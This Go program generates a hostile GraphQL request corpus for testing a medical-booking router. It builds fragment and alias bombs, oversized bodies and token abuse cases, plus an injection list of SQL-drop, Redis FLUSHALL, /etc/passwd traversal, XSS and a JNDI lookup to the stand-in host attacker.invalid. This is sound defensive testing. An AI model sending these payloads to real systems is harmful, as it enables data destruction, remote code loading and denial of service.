//go:build ignore

// gen writes the hostile request corpus (http.jsonl, ws.jsonl) the end-to-end test
// TestHostileCorpusThroughTheRouter sends to the router. The files are the corpus: edit them, or
// this program and run it again (go run ./e2e/hostile/gen.go from the repository root).
//
// Placeholders, replaced by the test with what it created before it snapshots the stores:
// {{PRACTITIONER}}, {{TYPE}}, {{LOCATION}}, {{APPOINTMENT}}, {{DAY}} (a day within the booking
// horizon), {{START}} (an instant on that day). "token" names the caller: patient, practitioner,
// stranger (a valid token for no account), expired, garbage, none (alg none), otherkey.
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// httpCase is one request. The test checks every answer: no 5xx, a whole response, a code on
// every refusal; status and codes, when given, must match too.
type httpCase struct {
	Name        string            `json:"name"`
	Method      string            `json:"method,omitempty"` // POST when empty
	Path        string            `json:"path,omitempty"`   // /graphql when empty; may carry a query string
	ContentType *string           `json:"contentType,omitempty"`
	Headers     map[string]string `json:"headers,omitempty"`
	Token       string            `json:"token,omitempty"`
	Body        string            `json:"body,omitempty"`
	BodyBase64  string            `json:"bodyBase64,omitempty"`
	Parts       []part            `json:"parts,omitempty"` // appended to the body
	Status      []int             `json:"status,omitempty"`
	Codes       []string          `json:"codes,omitempty"` // acceptable extensions.code of the first error
	Answered    bool              `json:"answered,omitempty"`
	// Stream: the answer may stay open (a subscription); its first bytes are enough.
	Stream bool `json:"stream,omitempty"`
}

// part is Text once, or Count times with {{N}} and {{N+1}} replaced by 0, 1, … and 1, 2, …
// (large bodies stay small here).
type part struct {
	Text  string `json:"text"`
	Count int    `json:"count,omitempty"`
}

// unit is text repeated count times, for big.
type unit struct {
	text  string
	count int
}

// big is the parts of the request body {"query": query, "variables": vars} where the i-th unit
// stands at each occurrence of the byte i+1 in query.
func big(query string, vars any, units ...unit) []part {
	body := q(query, vars)
	var parts []part
	for len(body) > 0 {
		best, which := len(body), -1
		for k := range units {
			marker := fmt.Sprintf(`\u%04x`, k+1)
			if j := strings.Index(body, marker); j >= 0 && j < best {
				best, which = j, k
			}
		}
		if which < 0 {
			parts = append(parts, part{Text: body})
			break
		}
		if best > 0 {
			parts = append(parts, part{Text: body[:best]})
		}
		esc, _ := json.Marshal(units[which].text)
		parts = append(parts, part{Text: string(esc[1 : len(esc)-1]), Count: units[which].count})
		body = body[best+len(`\u0001`):]
	}
	return parts
}

// wsCase is one WebSocket conversation: frames sent after the upgrade, then what must end it.
type wsCase struct {
	Name     string            `json:"name"`
	Headers  map[string]string `json:"headers,omitempty"`
	Protocol string            `json:"protocol,omitempty"` // graphql-transport-ws when empty
	Frames   []wsFrame         `json:"frames,omitempty"`
	// Expect: "close" (the router closes; CloseCodes, if any, are the acceptable codes), "open"
	// (the connection is still served afterwards), "refused" (no upgrade), "errors" (every
	// subscribe beyond the limit gets an error with Code), "any" (whatever the router does, it
	// survives it and frees the connection).
	Expect     string `json:"expect"`
	CloseCodes []int  `json:"closeCodes,omitempty"`
	// ResetAllowed: the router may close while the client still writes what it refused (a message
	// over the limit), so the client can meet a reset or a broken pipe before the close frame.
	ResetAllowed bool   `json:"resetAllowed,omitempty"`
	Code         string `json:"code,omitempty"`
	Status       []int  `json:"status,omitempty"` // for refused
}

// wsFrame is a message (Text, sent Count times with {{N}} replaced by its number) or raw bytes
// written on the socket as they are (RawBase64), or silence (PauseMillis).
type wsFrame struct {
	Text        string `json:"text,omitempty"` // {{PAD}} stands for PadBytes spaces
	PadBytes    int    `json:"padBytes,omitempty"`
	Count       int    `json:"count,omitempty"`
	RawBase64   string `json:"rawBase64,omitempty"`
	PauseMillis int    `json:"pauseMillis,omitempty"`
}

func q(query string, vars any) string {
	b, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	return string(b)
}

func qn(query, name string, vars any) string {
	b, _ := json.Marshal(map[string]any{"query": query, "operationName": name, "variables": vars})
	return string(b)
}

func ct(s string) *string { return &s }

const (
	search    = `query S($input: PractitionerSearchInput!, $first: Int, $after: String) { searchPractitioners(input: $input, first: $first, after: $after) { totalCount edges { practitioner { id displayName } } } }`
	profile   = `query P($id: ID!) { practitioner(id: $id) { id displayName locations { id timeZone } appointmentTypes { id name } } }`
	slots     = `query Sl($id: ID!, $appointmentTypeId: ID!, $from: Date!, $to: Date!) { practitioner(id: $id) { id availableSlots(appointmentTypeId: $appointmentTypeId, from: $from, to: $to) { startsAt } } }`
	specs     = `query Sp($country: String!) { specialties(country: $country) { code label } }`
	register  = `mutation R($input: RegisterPatientInput!) { registerPatient(input: $input) { patient { id } } }`
	hold      = `mutation H($input: HoldSlotInput!) { holdSlot(input: $input) { hold { id } } }`
	book      = `mutation B($input: BookAppointmentInput!) { bookAppointment(input: $input) { appointment { id } } }`
	cancel    = `mutation C($input: CancelAppointmentInput!) { cancelAppointment(input: $input) { appointment { id status } } }`
	reschd    = `mutation Re($input: RescheduleAppointmentInput!) { rescheduleAppointment(input: $input) { appointment { id } } }`
	update    = `mutation U($input: UpdateMyProfileInput!) { updateMyProfile(input: $input) { patient { id } } }`
	relative  = `mutation AR($input: AddRelativeInput!) { addRelative(input: $input) { relative { id } } }`
	appt      = `query A($id: ID!) { appointment(id: $id) { id status } }`
	agenda    = `query Ag($from: Date!, $to: Date!) { myPractice { id agenda(from: $from, to: $to) { id } } }`
	absence   = `mutation Ab($input: AddAbsenceInput!) { addAbsence(input: $input) { absence { id } } }`
	hours     = `mutation OH($input: SetOpeningHoursInput!) { setOpeningHours(input: $input) { practitioner { id } } }`
	importOps = `mutation I($input: [ImportPractitionerInput!]!) { importPractitioners(input: $input) { imported failed { index code } } }`
	myAppts   = `query MA($first: Int, $after: String) { me { id appointments(first: $first, after: $after) { edges { node { id } } } } }`
)

// Values an attacker puts where a string goes.
var injections = []string{
	`' OR '1'='1`,
	`'; DROP TABLE appointments; --`,
	`" OR ""="`,
	`1; SELECT pg_sleep(10)`,
	`$1`,
	`%_%`,
	`\`,
	"\r\nFLUSHALL\r\n",
	`") { __schema { types { name } } } #`,
	`../../../../etc/passwd`,
	`{{7*7}}${7*7}`,
	`${jndi:ldap://attacker.invalid/a}`,
	`<script>alert(1)</script>`,
	"\u0000",
	`\u0000 NUL`,
	strings.Repeat("🩺", 500),
}

func main() {
	var hc []httpCase
	add := func(c httpCase) { hc = append(hc, c) }
	tooComplex := []string{"QUERY_TOO_COMPLEX", "GRAPHQL_VALIDATION_FAILED", "GRAPHQL_PARSE_FAILED"}
	var bomb string

	// Deep nesting: a real cycle of the graph (practitioner → agenda → practitioner …), unknown
	// fields, bare braces, nested variables.
	for _, d := range []int{16, 20, 40, 61, 100, 1000, 10000} {
		open := unit{`agenda(from: "2030-01-01", to: "2030-01-02") { practitioner { `, d / 2}
		add(httpCase{Name: fmt.Sprintf("deep cycle %d", d), Parts: big("query { practitioner(id: \"{{PRACTITIONER}}\") { \x01id\x02 } }", nil, open, unit{" } }", d / 2}), Codes: tooComplex})
		add(httpCase{Name: fmt.Sprintf("deep unknown fields %d", d), Parts: big("{ \x01b\x02 }", nil, unit{"a { ", d}, unit{" }", d}), Codes: tooComplex})
	}
	for _, d := range []int{100, 10000, 200000} {
		add(httpCase{Name: fmt.Sprintf("bare braces %d", d), Parts: big("\x01\x02", nil, unit{"{", d}, unit{"}", d}), Codes: tooComplex})
	}
	for _, d := range []int{100, 10000, 100000} {
		add(httpCase{Name: fmt.Sprintf("nested variables %d", d), Parts: []part{
			{Text: `{"query":"query S($input: PractitionerSearchInput!) { searchPractitioners(input: $input) { totalCount } }","variables":{"input":{"country":"fr","text":`},
			{Text: "[", Count: d}, {Text: "]", Count: d}, {Text: "}}}"}}})
	}

	// Aliases.
	for _, n := range []int{501, 1000, 10000} {
		add(httpCase{Name: fmt.Sprintf("%d aliases", n), Parts: big("{ \x01 }", nil, unit{`a{{N}}: specialties(country: "fr") { code } `, n}), Codes: []string{"QUERY_TOO_COMPLEX"}})
	}
	add(httpCase{Name: "1000 aliased registrations", Parts: big("mutation { \x01 }", nil, unit{`r{{N}}: registerPatient(input: {firstName: "A", lastName: "B", email: "x{{N}}@example.org", birthDate: "1990-01-01", country: "fr"}) { patient { id } } `, 1000}), Codes: []string{"QUERY_TOO_COMPLEX"}})

	// Fragments: cycles, unknown, wrong type, long chains, a fragment bomb.
	frag := map[string]string{
		"self cycle":  `query { ...A } fragment A on Query { ...A }`,
		"two cycle":   `query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }`,
		"three cycle": `query { ...A } fragment A on Query { specialties(country: "fr") { code } ...B } fragment B on Query { ...C } fragment C on Query { ...A }`,
		"unknown":     `query { ...Nope }`,
		"wrong type":  `query { ...A } fragment A on Mutation { registerPatient { patient { id } } }`,
		"inline loop": `query { ... on Query { ... on Query { ... on Query { ...A } } } } fragment A on Query { ... on Query { ...A } }`,
	}
	add(httpCase{Name: "fragment unused", Body: q(`query { specialties(country: "fr") { code } } fragment A on Query { specialties(country: "fr") { label } }`, nil), Answered: true})
	for name, doc := range frag {
		add(httpCase{Name: "fragment " + name, Body: q(doc, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED", "QUERY_TOO_COMPLEX", "GRAPHQL_PARSE_FAILED"}})
	}
	for _, n := range []int{100, 2000} {
		add(httpCase{Name: fmt.Sprintf("fragment chain %d", n), Parts: big(fmt.Sprintf("query { ...F0 } \x01fragment F%d on Query { specialties(country: \"fr\") { code } }", n), nil,
			unit{"fragment F{{N}} on Query { ...F{{N+1}} } ", n}), Codes: []string{"GRAPHQL_VALIDATION_FAILED", "QUERY_TOO_COMPLEX", "GRAPHQL_PARSE_FAILED", "BAD_REQUEST"}, Answered: true})
	}
	for _, n := range []int{10, 16, 24} {
		var b strings.Builder
		b.WriteString("query { ...F0 } ")
		for i := range n {
			fmt.Fprintf(&b, "fragment F%d on Query { a%d: practitioner(id: \"{{PRACTITIONER}}\") { id } ...F%d b%d: practitioner(id: \"{{PRACTITIONER}}\") { displayName } } ", i, i, i+1, i)
		}
		fmt.Fprintf(&b, "fragment F%d on Query { specialties(country: \"fr\") { code } }", n)
		add(httpCase{Name: fmt.Sprintf("fragment fan-out %d", n), Body: q(b.String(), nil), Answered: true})
	}
	{
		// Exponential: each level spreads the next twice under distinct aliases.
		var b strings.Builder
		b.WriteString("query { ...F0 } ")
		for i := range 20 {
			fmt.Fprintf(&b, "fragment F%d on Query { x%d: practitioner(id: \"{{PRACTITIONER}}\") { id } ...F%d ...F%d } ", i, i, i+1, i+1)
		}
		b.WriteString("fragment F20 on Query { specialties(country: \"fr\") { code } }")
		bomb = b.String()
		add(httpCase{Name: "fragment bomb", Body: q(bomb, nil), Status: []int{400}, Codes: []string{"QUERY_TOO_COMPLEX"}})
	}

	{
		var gz bytes.Buffer
		w := gzip.NewWriter(&gz)
		_, _ = w.Write([]byte(q(bomb, nil)))
		_ = w.Close()
		add(httpCase{Name: "fragment bomb, gzipped", Headers: map[string]string{"Content-Encoding": "gzip"}, BodyBase64: base64.StdEncoding.EncodeToString(gz.Bytes()), Answered: true})
	}

	// Batches: the router does not batch.
	one := q(`{ specialties(country: "fr") { code } }`, nil)
	for _, n := range []int{2, 100, 1000} {
		add(httpCase{Name: fmt.Sprintf("batch of %d", n), Parts: []part{{Text: "["}, {Text: one + ",", Count: n - 1}, {Text: one + "]"}}, Answered: true})
	}
	add(httpCase{Name: "empty batch", Body: "[]", Answered: true})
	add(httpCase{Name: "batch of garbage", Body: `[1, "two", null, {"query": 3}]`, Answered: true})
	add(httpCase{Name: "batch with a mutation", Body: "[" + one + "," + q(register, map[string]any{"input": map[string]any{"firstName": "A", "lastName": "B", "email": "not-an-email", "birthDate": "1990-01-01", "country": "fr"}}) + "]", Answered: true})

	// Oversized bodies and variables.
	add(httpCase{Name: "body 1 MB + 1", Parts: []part{{Text: `{"query":"{ specialties(country: \"fr\") { code } }","x":"`}, {Text: "x", Count: 1_000_001}, {Text: `"}`}}, Status: []int{413}, Codes: []string{"REQUEST_TOO_LARGE"}})
	add(httpCase{Name: "body 5 MB", Parts: []part{{Text: `{"query":"`}, {Text: "{ a }", Count: 1_000_000}, {Text: `"}`}}, Status: []int{413}, Codes: []string{"REQUEST_TOO_LARGE"}})
	add(httpCase{Name: "body 5 MB of whitespace", Parts: []part{{Text: `{"query":"{ __typename }"`}, {Text: " ", Count: 5_000_000}, {Text: `}`}}, Status: []int{413}, Codes: []string{"REQUEST_TOO_LARGE"}})
	add(httpCase{Name: "search text 900 KB", Parts: []part{{Text: `{"query":"query S($input: PractitionerSearchInput!) { searchPractitioners(input: $input) { totalCount } }","variables":{"input":{"country":"fr","text":"`}, {Text: "a", Count: 900_000}, {Text: `"}}}`}}, Answered: true})
	add(httpCase{Name: "first name 900 KB", Parts: []part{{Text: `{"query":"mutation R($input: RegisterPatientInput!) { registerPatient(input: $input) { patient { id } } }","variables":{"input":{"lastName":"B","email":"x@example.org","birthDate":"1990-01-01","country":"fr","firstName":"`}, {Text: "a", Count: 900_000}, {Text: `"}}}`}}, Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "100k languages", Token: "practitioner", Parts: []part{{Text: `{"query":"mutation U($input: UpdatePracticeProfileInput!) { updatePracticeProfile(input: $input) { practitioner { id } } }","variables":{"input":{"languages":["fr"`}, {Text: `,"x1"`, Count: 100_000}, {Text: `]}}}`}}, Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "50k unknown variables", Parts: []part{{Text: `{"query":"{ specialties(country: \"fr\") { code } }","variables":{"v0":0`}, {Text: `,"v":1`, Count: 50_000}, {Text: `}}`}}, Answered: true})
	add(httpCase{Name: "6000 import rows", Token: "admin", Parts: []part{{Text: `{"query":"mutation I($input: [ImportPractitionerInput!]!) { importPractitioners(input: $input) { imported failed { index code } } }","variables":{"input":[{"externalId":"x","firstName":"A","lastName":"B","country":"fr","specialties":[],"locations":[]}`}, {Text: `,{"externalId":"x","firstName":"A","lastName":"B","country":"fr","specialties":[],"locations":[]}`, Count: 5_999}, {Text: `]}}`}}, Codes: []string{"INVALID_INPUT", "UNAUTHENTICATED", "FORBIDDEN"}})
	add(httpCase{Name: "long operation name", Parts: []part{{Text: `{"query":"query `}, {Text: "N", Count: 100_000}, {Text: ` { __typename }","operationName":"`}, {Text: "N", Count: 100_000}, {Text: `"}`}}, Answered: true})

	// Invalid UTF-8 and odd encodings.
	for name, raw := range map[string][]byte{
		"invalid UTF-8 in query":      []byte("{\"query\":\"{ specialties(country: \\\"f\xffr\\\") { code } }\"}"),
		"invalid UTF-8 in variables":  []byte("{\"query\":\"query Sp($country: String!) { specialties(country: $country) { code } }\",\"variables\":{\"country\":\"\xc3\x28\"}}"),
		"overlong encoding":           []byte("{\"query\":\"{ specialties(country: \\\"\xc0\xaf\\\") { code } }\"}"),
		"UTF-8 BOM":                   append([]byte("\xef\xbb\xbf"), []byte(one)...),
		"UTF-16 body":                 []byte("\xff\xfe{\x00\"\x00q\x00\"\x00:\x00\"\x00{\x00}\x00\"\x00}\x00"),
		"NUL bytes":                   []byte("{\"query\":\"{ spec\x00ialties }\"}"),
		"invalid UTF-8 in name field": []byte("{\"query\":\"mutation R($input: RegisterPatientInput!) { registerPatient(input: $input) { patient { id } } }\",\"variables\":{\"input\":{\"firstName\":\"\xfe\xfe\",\"lastName\":\"B\",\"email\":\"x@example\xfe.org\",\"birthDate\":\"1990-01-01\",\"country\":\"fr\"}}}"),
		"lone surrogate escape":       []byte(`{"query":"query Sp($country: String!) { specialties(country: $country) { code } }","variables":{"country":"\ud800"}}`),
		"invalid UTF-8 search text":   []byte("{\"query\":\"query S($input: PractitionerSearchInput!) { searchPractitioners(input: $input) { totalCount } }\",\"variables\":{\"input\":{\"country\":\"fr\",\"text\":\"\xed\xa0\x80\"}}}"),
	} {
		add(httpCase{Name: name, BodyBase64: base64.StdEncoding.EncodeToString(raw), Answered: true})
	}

	// Content types.
	for _, t := range []string{"text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded",
		"multipart/form-data; boundary=x", "application/graphql", "application/json; charset=latin1",
		"application/json; charset=utf-16", "application/octet-stream", "image/png", strings.Repeat("a", 8000), ""} {
		add(httpCase{Name: "content type " + firstN(t, 40), ContentType: ct(t), Body: one, Answered: true})
	}
	add(httpCase{Name: "no content type", Body: one, Answered: true, ContentType: ct("-")})
	add(httpCase{Name: "form-encoded query", ContentType: ct("application/x-www-form-urlencoded"), Body: "query=%7B+specialties%28country%3A+%22fr%22%29+%7B+code+%7D+%7D", Answered: true})
	add(httpCase{Name: "multipart upload", ContentType: ct("multipart/form-data; boundary=XX"), Body: "--XX\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n" + one + "\r\n--XX--\r\n", Answered: true})
	add(httpCase{Name: "raw GraphQL body", ContentType: ct("application/graphql"), Body: `{ specialties(country: "fr") { code } }`, Answered: true})
	add(httpCase{Name: "XML body", ContentType: ct("application/json"), Body: `<?xml version="1.0"?><query>{ a }</query>`, Answered: true})

	// Malformed JSON and request shapes.
	for name, body := range map[string]string{
		"empty body": "", "null": "null", "number": "42", "string": `"{ a }"`, "true": "true",
		"truncated": `{"query":"{ specialties`, "trailing garbage": one + "}}}", "two documents": one + one,
		"query null": `{"query":null}`, "query number": `{"query":123}`, "query object": `{"query":{"a":1}}`,
		"query empty": `{"query":""}`, "variables string": `{"query":"{ __typename }","variables":"x"}`,
		"variables array": `{"query":"{ __typename }","variables":[1,2]}`, "duplicate keys": `{"query":"{ __typename }","query":"mutation { x }"}`,
		"extensions garbage": `{"query":"{ __typename }","extensions":"x"}`, "operationName number": `{"query":"{ __typename }","operationName":5}`,
		"huge number":  `{"query":"query S($first: Int) { searchPractitioners(input: {country: \"fr\"}, first: $first) { totalCount } }","variables":{"first":1e400}}`,
		"comment only": `{"query":"# nothing"}`,
	} {
		add(httpCase{Name: name, Body: body, Answered: true})
	}

	add(httpCase{Name: "deep JSON object", Parts: []part{{Text: `{"a":`, Count: 5000}, {Text: "1"}, {Text: "}", Count: 5000}}, Answered: true})

	// Unknown operations.
	add(httpCase{Name: "unknown operation name", Body: qn(`query A { __typename }`, "B", nil), Answered: true})
	add(httpCase{Name: "two operations, no name", Body: q(`query A { __typename } query B { __typename }`, nil), Answered: true})
	add(httpCase{Name: "unknown root field", Body: q(`{ patients { id email } }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "unknown mutation", Body: q(`mutation { dropAllTables }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "unknown subscription", Body: q(`subscription { everything }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "persisted query unknown", Body: `{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ecf4edb46db40b5132295c0291d62fb65d6759a9eedfa4d5d612dd5ec54a6b38"}}}`, Answered: true})
	add(httpCase{Name: "persisted query mismatch", Body: `{"query":"{ __typename }","extensions":{"persistedQuery":{"version":1,"sha256Hash":"0000"}}}`, Answered: true})
	add(httpCase{Name: "internal entities field", Body: q(`{ _entities(representations: [{__typename: "Patient", id: "x"}]) { __typename } }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "service SDL", Body: q(`{ _service { sdl } }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "subscription over HTTP", Body: q(`subscription W($p: ID!, $t: ID!, $f: Date!, $to: Date!) { slotsChanged(practitionerId: $p, appointmentTypeId: $t, from: $f, to: $to) { practitionerId } }`,
		map[string]any{"p": "{{PRACTITIONER}}", "t": "{{TYPE}}", "f": "{{DAY}}", "to": "{{DAY}}"}), Headers: map[string]string{"Accept": "application/json"}, Answered: true, Stream: true})
	add(httpCase{Name: "directive on unknown", Body: q(`{ specialties(country: "fr") @nope { code } }`, nil), Codes: []string{"GRAPHQL_VALIDATION_FAILED"}})
	add(httpCase{Name: "skip with garbage", Body: q(`query($s: Boolean!) { specialties(country: "fr") @skip(if: $s) { code } }`, map[string]any{"s": "yes"}), Answered: true})

	// Introspection is off in production.
	for name, doc := range map[string]string{
		"schema":             `{ __schema { types { name } } }`,
		"type":               `{ __type(name: "Patient") { fields { name } } }`,
		"aliased schema":     `{ s: __schema { queryType { name } } }`,
		"schema in fragment": `query { ...I } fragment I on Query { __schema { types { name } } }`,
		"schema beside data": `{ specialties(country: "fr") { code } __schema { types { name } } }`,
	} {
		add(httpCase{Name: "introspection " + name, Body: q(doc, nil), Codes: []string{"INTROSPECTION_DISABLED"}})
	}
	add(httpCase{Name: "introspection over GET", Method: "GET", Path: "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D", Codes: []string{"INTROSPECTION_DISABLED"}})

	// Injection in variables, everywhere a string goes.
	for i, v := range injections {
		add(httpCase{Name: fmt.Sprintf("injection %d in search text", i), Body: q(search, map[string]any{"input": map[string]any{"country": "fr", "text": v}}), Answered: true})
		add(httpCase{Name: fmt.Sprintf("injection %d in search country", i), Body: q(search, map[string]any{"input": map[string]any{"country": v}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in practitioner id", i), Body: q(profile, map[string]any{"id": v}), Answered: true})
		add(httpCase{Name: fmt.Sprintf("injection %d in slot range", i), Body: q(slots, map[string]any{"id": "{{PRACTITIONER}}", "appointmentTypeId": v, "from": "{{DAY}}", "to": "{{DAY}}"}), Answered: true})
		add(httpCase{Name: fmt.Sprintf("injection %d in registration", i), Body: q(register, map[string]any{"input": map[string]any{"firstName": v, "lastName": v, "email": v, "birthDate": "1990-01-01", "country": "fr"}}), Codes: []string{"INVALID_INPUT"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in a hold", i), Token: "patient", Body: q(hold, map[string]any{"input": map[string]any{"practitionerId": v, "appointmentTypeId": "{{TYPE}}", "startsAt": "{{START}}"}}), Codes: []string{"INVALID_INPUT", "NOT_FOUND"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in a cancellation", i), Token: "patient", Body: q(cancel, map[string]any{"input": map[string]any{"appointmentId": v, "reason": v}}), Codes: []string{"INVALID_INPUT", "NOT_FOUND"}})
	}
	for i, v := range injections[:6] {
		add(httpCase{Name: fmt.Sprintf("injection %d in a booking key", i), Token: "patient", Body: q(book, map[string]any{"input": map[string]any{"practitionerId": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "startsAt": "not-a-time", "idempotencyKey": v, "note": v}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in specialties", i), Body: q(specs, map[string]any{"country": v}), Codes: []string{"INVALID_INPUT"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in a profile update", i), Token: "patient", Body: q(update, map[string]any{"input": map[string]any{"firstName": v, "phone": v}}), Codes: []string{"INVALID_INPUT"}})
		add(httpCase{Name: fmt.Sprintf("injection %d in a cursor", i), Body: q(search, map[string]any{"input": map[string]any{"country": "fr"}, "after": v}), Codes: []string{"INVALID_INPUT"}})
	}
	add(httpCase{Name: "object where a string goes", Body: q(search, map[string]any{"input": map[string]any{"country": map[string]any{"$gt": ""}}}), Codes: []string{"GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT", "INVALID_INPUT"}})
	add(httpCase{Name: "list where a string goes", Body: q(profile, map[string]any{"id": []string{"a", "b"}}), Answered: true})

	// Bad scalars.
	for i, day := range []string{"2026-02-30", "2026-13-01", "20260101", "", "0000-00-00", "+002026-01-01", "2026-1-1", "2026-01-01T00:00:00Z", "99999-01-01", "٢٠٢٦-٠١-٠١"} {
		add(httpCase{Name: fmt.Sprintf("bad date %d", i), Body: q(slots, map[string]any{"id": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "from": day, "to": "{{DAY}}"}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"}})
	}
	add(httpCase{Name: "slot range backwards", Body: q(slots, map[string]any{"id": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "from": "2030-01-10", "to": "2030-01-01"}), Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "slot range ten years", Body: q(slots, map[string]any{"id": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "from": "2030-01-01", "to": "2040-01-01"}), Codes: []string{"INVALID_INPUT"}})
	for i, at := range []string{"yesterday", "2026-01-01T25:00:00Z", "2026-01-01", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-01-01T10:00:00+99:00", ""} {
		add(httpCase{Name: fmt.Sprintf("bad instant %d in a hold", i), Token: "patient", Body: q(hold, map[string]any{"input": map[string]any{"practitionerId": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "startsAt": at}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "SLOT_UNAVAILABLE", "BAD_USER_INPUT"}})
	}
	for i, near := range []map[string]any{{"lat": 91, "lon": 0, "radiusKm": 1}, {"lat": 0, "lon": 181, "radiusKm": 1}, {"lat": 0, "lon": 0, "radiusKm": -1}, {"lat": 0, "lon": 0, "radiusKm": 1e308}, {"lat": "x", "lon": 0, "radiusKm": 1}} {
		add(httpCase{Name: fmt.Sprintf("bad geo %d", i), Body: q(search, map[string]any{"input": map[string]any{"country": "fr", "near": near}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"}})
	}
	for i, first := range []any{-1, 0, 1_000_000, 2147483648, 1.5, "10"} {
		add(httpCase{Name: fmt.Sprintf("bad page size %d", i), Body: q(search, map[string]any{"input": map[string]any{"country": "fr"}, "first": first}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"}})
	}
	for i, c := range []string{"!!!", "AAAA", base64.RawURLEncoding.EncodeToString([]byte("2026-01-01T00:00:00Z|not-an-id")), base64.RawURLEncoding.EncodeToString([]byte("garbage|")), strings.Repeat("A", 10_000)} {
		add(httpCase{Name: fmt.Sprintf("bad cursor %d", i), Token: "patient", Body: q(myAppts, map[string]any{"first": 5, "after": c}), Codes: []string{"INVALID_INPUT"}})
	}
	for i, tm := range []string{"24:01", "7:5", "12:60", "-1:00", "12:03", "noon"} {
		add(httpCase{Name: fmt.Sprintf("bad wall clock %d", i), Token: "practitioner", Body: q(hours, map[string]any{"input": map[string]any{"locationId": "{{LOCATION}}", "rules": []map[string]any{{"weekday": "MONDAY", "startTime": tm, "endTime": "18:00", "stepMinutes": 15, "appointmentTypeIds": []string{"{{TYPE}}"}}}}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"}})
	}
	add(httpCase{Name: "absence a century long", Token: "practitioner", Body: q(absence, map[string]any{"input": map[string]any{"startsAt": "2030-01-01T00:00:00Z", "endsAt": "2130-01-01T00:00:00Z"}}), Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "relative born tomorrow", Token: "patient", Body: q(relative, map[string]any{"input": map[string]any{"firstName": "A", "lastName": "B", "birthDate": "2999-01-01"}}), Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "agenda of a century", Token: "practitioner", Body: q(agenda, map[string]any{"from": "2000-01-01", "to": "2100-01-01"}), Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "reschedule to garbage", Token: "patient", Body: q(reschd, map[string]any{"input": map[string]any{"appointmentId": "{{APPOINTMENT}}", "startsAt": "soon", "idempotencyKey": "k"}}), Codes: []string{"INVALID_INPUT", "GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"}})
	add(httpCase{Name: "cancel without reason", Token: "patient", Body: q(cancel, map[string]any{"input": map[string]any{"appointmentId": "{{APPOINTMENT}}", "reason": ""}}), Codes: []string{"INVALID_INPUT"}})
	add(httpCase{Name: "someone else's appointment", Token: "stranger", Body: q(appt, map[string]any{"id": "{{APPOINTMENT}}"}), Codes: []string{"NOT_FOUND", "FORBIDDEN", "UNAUTHENTICATED"}})
	add(httpCase{Name: "someone else's cancellation", Token: "stranger", Body: q(cancel, map[string]any{"input": map[string]any{"appointmentId": "{{APPOINTMENT}}", "reason": "mine now"}}), Codes: []string{"NOT_FOUND", "FORBIDDEN", "UNAUTHENTICATED"}})
	add(httpCase{Name: "import without admin", Token: "patient", Body: q(importOps, map[string]any{"input": []any{}}), Codes: []string{"FORBIDDEN"}})

	// Tokens.
	for _, tok := range []string{"garbage", "none", "expired", "otherkey"} {
		add(httpCase{Name: "token " + tok, Token: tok, Body: one, Status: []int{401}, Codes: []string{"UNAUTHENTICATED"}})
		add(httpCase{Name: "token " + tok + " on a mutation", Token: tok, Body: q(hold, map[string]any{"input": map[string]any{"practitionerId": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "startsAt": "{{START}}"}}), Status: []int{401}, Codes: []string{"UNAUTHENTICATED"}})
	}
	for name, h := range map[string]string{"basic auth": "Basic dXNlcjpwYXNz", "empty bearer": "Bearer ", "bearer only": "Bearer", "huge token": "Bearer " + strings.Repeat("a", 3_000), "two schemes": "Bearer a Bearer b"} {
		add(httpCase{Name: "authorization " + name, Headers: map[string]string{"Authorization": h}, Body: one, Status: []int{401}, Codes: []string{"UNAUTHENTICATED"}})
	}
	add(httpCase{Name: "anonymous hold", Body: q(hold, map[string]any{"input": map[string]any{"practitionerId": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "startsAt": "{{START}}"}}), Codes: []string{"UNAUTHENTICATED"}})
